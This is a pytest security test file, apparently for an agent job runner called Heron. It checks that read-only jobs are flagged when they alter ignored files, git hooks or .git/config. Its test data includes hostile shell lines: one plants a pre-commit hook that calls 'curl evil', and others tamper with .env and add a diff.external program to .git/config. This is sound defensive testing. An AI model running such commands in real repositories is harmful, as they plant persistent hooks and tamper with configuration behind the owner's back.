"""A read-only job must leave the workspace as it found it, or say it did not (issue 45).

``git status`` sees files appear and go, and tracked files change, but not a change to
a file it already lists (ignored, untracked or modified), nor anything under ``.git/``.
The attack run's jobs appended to an ignored ``.env``, planted a git hook and edited
``.git/config`` from their test command, and each reported ``ok: true`` with the
workspace ``unchanged``. Each is a job here, run by the real runner on a real repository;
each must come back ``ok: false`` naming what changed, and a job that changes nothing
must still find it ``unchanged``."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from heron.jobs import JobRunner, Jobs, open_jobs
from heron.settings import Settings
from tests.security.served import git, make_repo


@pytest.fixture
def workspace(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository as people have them: a modified file, an untracked note, an ignored
    ``.env`` and cache folder, a sample hook; jobs run there with ``sh`` allowed."""
    root = make_repo(tmp_path / "repo")  # notes.txt committed twice, then modified
    (root / ".gitignore").write_text(".env\ncache/\n")
    git(root, "add", ".gitignore")
    git(root, "commit", "-q", "-m", "ignore")
    (root / ".env").write_text("DEBUG=1\n")
    (root / "cache").mkdir()
    (root / "cache" / "built.txt").write_text("old\n")
    (root / "todo.txt").write_text("untracked\n")
    (root / ".git" / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\nexit 0\n")
    monkeypatch.setenv("HERON_TOOLS_ROOT", str(root))
    monkeypatch.setenv("HERON_TOOLS_COMMANDS", json.dumps(["git", "sh"]))
    return root


@pytest.fixture
def jobs(workspace: Path) -> Iterator[Jobs]:
    jobs = open_jobs(Settings())
    yield jobs
    jobs.close()


def run_job(jobs: Jobs, monkeypatch: pytest.MonkeyPatch, script: str) -> dict[str, Any]:
    """A read-only job ("do the tests pass?") whose test command is ``sh -c script``."""
    monkeypatch.setenv("HERON_JOBS_TEST_COMMAND", f"sh -c '{script}; echo 1 passed'")
    job = jobs.create("do the tests pass?", "tests pass")
    asyncio.run(JobRunner(open_jobs(Settings())).run_until_idle())
    done = jobs.get(job.id)
    assert done.state == "completed" and done.result is not None, done
    return done.result


ATTACKS = [
    ("echo STOLEN=1 >> .env", "~ .env"),  # ignored, listed by git status before and after
    ("echo new >> cache/built.txt", "~ cache/built.txt"),  # inside an ignored folder
    ('printf "#!/bin/sh\\ncurl evil\\n" > .git/hooks/pre-commit', "+ .git/hooks/pre-commit"),
    ('printf "[alias]\\n\\tst = status\\n" >> .git/config', "~ .git/config"),
    ("echo more >> todo.txt", "~ todo.txt"),  # untracked, listed before and after
    ("echo fourth >> notes.txt", "~ notes.txt"),  # modified already, listed before and after
]


@pytest.mark.parametrize(("script", "change"), ATTACKS, ids=[a[1] for a in ATTACKS])
def test_a_read_only_job_that_writes_where_git_status_does_not_look_is_not_ok(
    jobs: Jobs, monkeypatch: pytest.MonkeyPatch, script: str, change: str
) -> None:
    result = run_job(jobs, monkeypatch, script)
    assert result["workspace"] == [change]
    assert result["ok"] is False


def test_a_job_that_changes_nothing_finds_the_workspace_unchanged(
    jobs: Jobs, monkeypatch: pytest.MonkeyPatch, workspace: Path
) -> None:
    """No false alarm: reading the ignored files, the hooks and the config, running git
    (status, diff, log) and the test command changes nothing."""
    index = (workspace / ".git" / "index").read_bytes()
    result = run_job(jobs, monkeypatch, "cat .env cache/built.txt .git/config > /dev/null")
    assert result["workspace"] == "unchanged"
    assert result["ok"] is True
    assert (workspace / ".git" / "index").read_bytes() == index


def test_config_that_stops_git_after_the_job_is_a_change_not_unchecked(
    jobs: Jobs, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A config entry naming a program makes Heron refuse to run git in the workspace:
    after such a job, git status cannot be taken. That is the job's doing, reported as a
    change (it was ``ok: true``, the workspace ``unchecked``)."""
    result = run_job(jobs, monkeypatch, 'printf "[diff]\\n\\texternal = ./x\\n" >> .git/config')
    assert result["ok"] is False
    assert result["workspace"][0].startswith("git status could not run after the job: ")
    assert "diff.external" in result["workspace"][0]
    assert result["workspace"][1:] == ["~ .git/config"]
